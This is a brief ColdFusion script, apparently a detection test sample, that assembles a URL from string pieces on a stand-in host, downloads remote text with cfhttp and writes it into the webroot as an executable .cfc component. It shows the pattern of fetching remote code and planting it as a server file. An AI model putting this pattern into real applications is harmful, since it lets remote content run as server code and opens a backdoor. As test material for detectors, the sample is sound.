<cfscript>
// test sample (documentation host): the remote text fetched with cfhttp() and written by fileWrite
// under a .cfc name, the address glued from pieces
u = "http://" & "www.example.com" & "/s/" & "tpl.txt";
cfhttp(url = u, method = "get", result = "g");
fileWrite(expandPath("/components/Util.cfc"), g.fileContent);
</cfscript>
